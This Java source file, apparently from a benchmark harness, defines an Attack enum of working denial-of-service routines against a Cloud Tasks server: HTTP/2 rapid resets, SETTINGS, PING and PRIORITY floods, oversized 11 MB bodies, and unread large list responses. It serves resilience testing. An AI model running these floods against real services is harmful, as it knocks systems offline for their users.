package io.github.cloudtasks.benchmarks.interference;

import com.google.cloud.tasks.v2beta2.CloudTasksGrpc;
import com.google.cloud.tasks.v2beta2.CloudTasksGrpc.CloudTasksFutureStub;
import com.google.cloud.tasks.v2beta2.ListTasksRequest;
import com.google.cloud.tasks.v2beta2.Task;
import com.google.common.util.concurrent.ListenableFuture;
import io.grpc.ManagedChannel;
import io.grpc.netty.NettyChannelBuilder;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;

/** Something that hostile or careless clients do, once or again and again until the thread is interrupted. */
enum Attack {
    NONE {
        @Override
        void run(Victim victim) throws InterruptedException {
            TimeUnit.DAYS.sleep(1);
        }
    },
    RAPID_RESETS {
        @Override
        void run(Victim victim) throws IOException {
            try (Socket socket = http2(victim)) {
                for (int stream = 1; stream > 0 && !Thread.currentThread().isInterrupted(); stream += 2000) {
                    socket.getOutputStream().write(resets(stream, 1000));
                }
            }
        }
    },
    SETTINGS_FLOOD {
        @Override
        void run(Victim victim) throws IOException {
            flood(victim, "000000040000000000");
        }
    },
    PING_FLOOD {
        @Override
        void run(Victim victim) throws IOException {
            flood(victim, "0000080600000000000000000000000000");
        }
    },
    PRIORITY_FLOOD {
        @Override
        void run(Victim victim) throws IOException {
            flood(victim, "0000050200000000010000000000");
        }
    },
    REFUSED_REST_BODIES_OF_11_MB {
        @Override
        void run(Victim victim) throws IOException {
            byte[] body = new byte[11_000_000];
            Arrays.fill(body, (byte) 'e');
            byte[] start = "{\"task\": {\"pullMessage\": {\"payload\": \"".getBytes(StandardCharsets.US_ASCII);
            byte[] end = "\"}}}".getBytes(StandardCharsets.US_ASCII);
            System.arraycopy(start, 0, body, 0, start.length);
            System.arraycopy(end, 0, body, body.length - end.length, end.length);
            exchange(
                    victim,
                    "POST /v2beta2/" + victim.queue() + "/tasks HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                            + "Content-Length: " + body.length + "\r\n\r\n",
                    body);
        }
    },
    REFUSED_GRPC_BODIES_OF_11_MB {
        @Override
        void run(Victim victim) throws InterruptedException {
            withStub(victim, stub -> {
                Task task = Task.newBuilder().setName("x".repeat(11_000_000)).build();
                return List.of(stub.createTask(victim.create(task)), stub.createTask(victim.create(task)));
            });
        }
    },
    LISTS_OF_1_4_MB_OVER_GRPC {
        @Override
        void run(Victim victim) throws InterruptedException {
            withStub(victim, stub -> {
                List<ListenableFuture<?>> calls = new ArrayList<>();
                for (int i = 0; i < 250; i++) {
                    calls.add(stub.listTasks(list(victim)));
                }
                return calls;
            });
        }
    },
    LISTS_OF_1_4_MB_OVER_REST {
        @Override
        void run(Victim victim) throws IOException {
            exchange(victim, listOverRest(victim, "close"), new byte[0]);
        }
    },
    LISTS_THAT_ARE_NOT_READ {
        @Override
        void run(Victim victim) throws IOException, InterruptedException {
            List<Socket> sockets = new ArrayList<>();
            try {
                for (int i = 0; i < 100; i++) {
                    Socket socket = new Socket(victim.host(), victim.port());
                    sockets.add(socket);
                    socket.getOutputStream()
                            .write(listOverRest(victim, "keep-alive").getBytes(StandardCharsets.US_ASCII));
                }
                TimeUnit.MILLISECONDS.sleep(500);
            } finally {
                for (Socket socket : sockets) {
                    socket.close();
                }
            }
        }
    };

    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    private static final String EMPTY_SETTINGS = "000000040000000000";

    abstract void run(Victim victim) throws IOException, InterruptedException;

    /** Returns requests for the queue's location, each with its reset. The headers are GET, http, / and localhost. */
    private static byte[] resets(int first, int count) {
        StringBuilder frames = new StringBuilder();
        for (int i = 0; i < count; i++) {
            String stream = String.format("%08x", first + 2 * i);
            frames.append("00000e0105").append(stream).append("82868441096c6f63616c686f7374");
            frames.append("0000040300").append(stream).append("00000008");
        }
        return HexFormat.of().parseHex(frames);
    }

    private static void flood(Victim victim, String frame) throws IOException {
        byte[] frames = HexFormat.of().parseHex(frame.repeat(1000));
        try (Socket socket = http2(victim)) {
            while (!Thread.currentThread().isInterrupted()) {
                socket.getOutputStream().write(frames);
            }
        }
    }

    private static Socket http2(Victim victim) throws IOException {
        Socket socket = new Socket(victim.host(), victim.port());
        socket.getOutputStream().write(PREFACE.getBytes(StandardCharsets.US_ASCII));
        socket.getOutputStream().write(HexFormat.of().parseHex(EMPTY_SETTINGS));
        Thread unused = Thread.ofPlatform().daemon().start(() -> {
            try {
                socket.getInputStream().transferTo(OutputStream.nullOutputStream());
            } catch (IOException e) {
                // The server has closed the connection.
            }
        });
        return socket;
    }

    private static String listOverRest(Victim victim, String connection) {
        return "GET /v2beta2/" + victim.queue() + "/tasks?responseView=FULL HTTP/1.1\r\nHost: localhost\r\nConnection: "
                + connection + "\r\n\r\n";
    }

    private static ListTasksRequest list(Victim victim) {
        return ListTasksRequest.newBuilder()
                .setParent(victim.queue())
                .setResponseView(Task.View.FULL)
                .build();
    }

    private static void exchange(Victim victim, String head, byte[] body) throws IOException {
        try (Socket socket = new Socket(victim.host(), victim.port())) {
            OutputStream out = socket.getOutputStream();
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            out.write(body);
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        }
    }

    /** Calls that are made at once. */
    private interface Calls {
        List<ListenableFuture<?>> start(CloudTasksFutureStub stub);
    }

    private static void withStub(Victim victim, Calls calls) throws InterruptedException {
        ManagedChannel channel = NettyChannelBuilder.forAddress(victim.host(), victim.port())
                .usePlaintext()
                .maxInboundMessageSize(64 << 20)
                .build();
        try {
            for (ListenableFuture<?> call : calls.start(CloudTasksGrpc.newFutureStub(channel))) {
                try {
                    Object unused = call.get();
                } catch (ExecutionException e) {
                    // Refused, as expected of some attacks.
                }
            }
        } finally {
            channel.shutdownNow();
        }
    }
}
